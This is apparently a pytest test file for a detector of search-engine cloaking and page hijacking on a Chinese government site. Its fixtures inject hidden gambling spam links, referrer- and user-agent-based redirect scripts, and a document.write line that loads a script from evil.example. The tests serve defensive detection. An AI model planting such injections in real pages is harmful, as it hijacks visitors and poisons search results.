"""Search-engine cloaking (快照劫持): versions of one real page compared as a browser, a crawler and
a visitor from a search engine see them; outside script hosts and their change between crawls."""

from __future__ import annotations

import pytest

from crawler.extract.html import parse_page
from inspection.cloaking import (
    Version,
    compare_versions,
    load_cloaking_rules,
    new_script_hosts,
    probes,
    script_hosts,
    scripted_redirects,
)

URL = "http://www.shanxi.gov.cn/yw/sxyw/201909/t20190918_693227.shtml"
HOSTS = {"www.shanxi.gov.cn"}
PAGE = "real-boilerplate/shanxi_detail_footer_gov_hk_gov_mo.html"


@pytest.fixture(scope="module")
def html(fixture_text):
    return fixture_text(PAGE)


def _version(role: str, html: str | None, final_url: str = URL, status: int = 200) -> Version:
    root = parse_page(html) if html is not None else None
    return Version(role, URL, final_url, status, root, record=f"<urn:uuid:{role}>")


def _after_body(html: str, fragment: str) -> str:
    at = html.index(">", html.lower().index("<body")) + 1
    return html[:at] + fragment + html[at:]


def test_probes_come_from_the_rules_browser_first():
    found = probes()
    assert found[0].role == "browser" and found[0].referer is None
    roles = {p.role: p for p in found}
    assert "Baiduspider" in roles["crawler:baiduspider"].user_agent
    assert roles["referer:baidu"].referer.startswith("https://www.baidu.com/")
    assert roles["referer:baidu"].user_agent == found[0].user_agent


def test_identical_versions_of_a_real_page_are_no_finding(html):
    versions = [_version(p.role, html) for p in probes()]
    assert compare_versions(versions, HOSTS) is None


def test_real_pages_served_alike_to_every_probe_are_no_finding(real_page):
    versions = [Version(p.role, real_page.url, real_page.url, 200, real_page.root) for p in probes()]
    assert compare_versions(versions, {real_page.host}) is None


def test_spam_served_only_to_the_spider_is_cloaking_with_both_versions(html):
    title_at = html.index("<title>") + len("<title>")
    spider = html[:title_at] + "开云体育官网入口_" + html[title_at:]
    spider = _after_body(
        spider, '<div style="display:none"><a href="http://www.kaiyun-bet.example/">百家乐</a></div>'
    )
    finding = compare_versions([_version("browser", html), _version("crawler:baiduspider", spider)], HOSTS)
    assert finding is not None and (finding.kind, finding.severity) == ("cloaking", "veto")
    assert finding.url == URL
    assert finding.evidence["baseline"]["role"] == "browser"
    assert finding.evidence["baseline"]["record"] == "<urn:uuid:browser>"
    assert finding.evidence["baseline"]["title"].startswith("山西品牌丝路行")
    (spider_diff,) = finding.evidence["versions"]
    assert (spider_diff["role"], spider_diff["record"]) == (
        "crawler:baiduspider",
        "<urn:uuid:crawler:baiduspider>",
    )
    assert set(spider_diff["spam_terms"]) == {"开云体育", "官网入口", "百家乐"}
    assert spider_diff["title_differs"] is True
    assert list(spider_diff["new_outside_links"]) == ["www.kaiyun-bet.example"]
    assert any("开云体育" in excerpt for excerpt in spider_diff["spam_excerpts"])
    assert any("spam vocabulary" in reason for reason in finding.evidence["reasons"])


def test_an_off_site_redirect_for_search_visitors_is_cloaking(html):
    meta = '<meta http-equiv="refresh" content="0;url=http://www.kaiyun-bet.example/">'
    versions = [
        _version("browser", html),
        _version("referer:baidu", None, final_url="http://www.kaiyun-bet.example/landing", status=200),
        _version("referer:sogou", html.replace("<head>", "<head>" + meta, 1)),
    ]
    finding = compare_versions(versions, HOSTS)
    assert finding is not None and finding.severity == "veto"
    hows = {(d["role"], r["how"], r["host"]) for d in finding.evidence["versions"] for r in d["redirects"]}
    assert hows == {
        ("referer:baidu", "http", "www.kaiyun-bet.example"),
        ("referer:sogou", "meta_refresh", "www.kaiyun-bet.example"),
    }


def test_a_referrer_test_in_the_browsers_own_version_is_cloaking(html):
    script = (
        '<script>var s=document.referrer;if(s.indexOf("baidu")>0||s.indexOf("so.com")>0)'
        '{location.href="http://www.kaiyun-bet.example/";}</script>'
    )
    cloaked = _after_body(html, script)
    finding = compare_versions([_version(p.role, cloaked) for p in probes()], HOSTS)
    assert finding is not None and finding.severity == "veto"
    assert finding.evidence["reasons"] == [
        "browser version carries a script that tests the referrer and sends the visitor to www.kaiyun-bet.example"
    ]


def test_new_outside_links_without_spam_are_a_warning_and_government_links_nothing(html):
    gov = _after_body(
        html, '<a href="http://www.gov.cn/">中国政府网</a><a href="https://www.gov.mo/">澳门</a>'
    )
    assert compare_versions([_version("browser", html), _version("crawler:googlebot", gov)], HOSTS) is None
    outside = _after_body(html, '<a href="http://links.example/">合作伙伴</a>')
    finding = compare_versions([_version("browser", html), _version("crawler:googlebot", outside)], HOSTS)
    assert finding is not None and finding.severity == "warning"
    assert finding.evidence["versions"][0]["new_outside_links"] == {
        "links.example": ["http://links.example/"]
    }


def test_a_mobile_redirect_within_the_site_is_no_cloaking(html):
    script = (
        '<script>if(/iphone|android/i.test(navigator.userAgent)){location.href="/m/index.html";}</script>'
    )
    mobile = _after_body(html, script)
    assert (
        compare_versions([_version("browser", html), _version("crawler:baiduspider-render", mobile)], HOSTS)
        is None
    )


def test_redirects_and_their_conditions_are_read_from_scripts():
    root = parse_page(
        "<html><head><meta http-equiv='Refresh' content='5; URL=/new/'></head><body>"
        "<script>if(navigator.userAgent.toLowerCase().indexOf('baiduspider')>-1){window.location.replace('http://s.example/')}</script>"
        "<script>top.location.href = 'https://www.gov.cn/';</script></body></html>"
    )
    found = {(r.how, r.host, r.scope, r.condition) for r in scripted_redirects(root, URL, HOSTS)}
    assert found == {
        ("meta_refresh", "www.shanxi.gov.cn", "site", None),
        ("script", "s.example", "outside", "user_agent"),
        ("script", "www.gov.cn", "government", None),
    }


def test_outside_script_hosts_of_a_real_page_and_scripts_written_by_scripts(html):
    assert script_hosts(parse_page(html), URL, HOSTS) == {"pucha.kaipuyun.cn", "ta.trs.cn"}
    written = parse_page(
        "<html><body><script>document.write(unescape(\"%3Cscript src='http://evil.example/x.js'%3E%3C/script%3E\"));"
        "</script><script src='/js/local.js'></script></body></html>"
    )
    assert script_hosts(written, URL, HOSTS) == {"evil.example"}


def test_a_new_outside_script_host_between_crawls_is_a_finding():
    rules = load_cloaking_rules()
    assert "pucha.kaipuyun.cn" in rules.common_script_hosts
    current = {
        "pucha.kaipuyun.cn": [URL],
        "evil.example": ["http://www.shanxi.gov.cn/b.html", URL],
        "dcs.conac.cn": [URL],
        "ta.trs.cn": [URL],
    }
    findings = new_script_hosts({"ta.trs.cn"}, current, HOSTS)
    by_host = {f.target: f for f in findings}
    assert set(by_host) == {"pucha.kaipuyun.cn", "evil.example", "dcs.conac.cn"}
    assert by_host["evil.example"].severity == "warning"
    assert by_host["pucha.kaipuyun.cn"].severity == "info" and by_host["dcs.conac.cn"].severity == "info"
    evil = by_host["evil.example"]
    assert (evil.kind, evil.where, evil.subject) == ("new_script_host", "site", "evil.example")
    assert evil.evidence["pages"] == sorted(current["evil.example"])
    assert new_script_hosts(set(current), current, HOSTS) == []
